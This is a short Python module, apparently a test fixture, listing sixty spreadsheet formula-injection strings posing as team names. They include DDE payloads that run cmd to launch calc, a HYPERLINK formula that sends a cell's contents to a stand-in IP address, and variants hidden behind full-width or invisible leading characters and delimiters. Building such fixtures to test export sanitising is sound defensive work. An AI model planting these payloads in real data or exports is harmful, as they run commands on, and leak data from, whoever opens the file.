"""Sixty names that somebody gives a team in the hope that another's spreadsheet runs it."""

BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢")
RUN = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://203.0.113.1/?"&A1,"see")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
)
HIDDEN = ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff")

HOSTILE = (
    *(f"{beginning}{rest}" for beginning in BEGINNINGS for rest in RUN),
    *(f"{hidden}=1+1" for hidden in HIDDEN),
    "Team;=1+1",
    'Team";=1+1',
    "Team\t=1+1",
    "Team\n=1+1",
    "Team\r\n+1+1",
    "Team; @SUM(1)",
    '"=1+1"',
    "'=1+1",
    "{=1+1}",
    "<b>=1+1</b>",
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "@import",
)
assert len(set(HOSTILE)) == 60
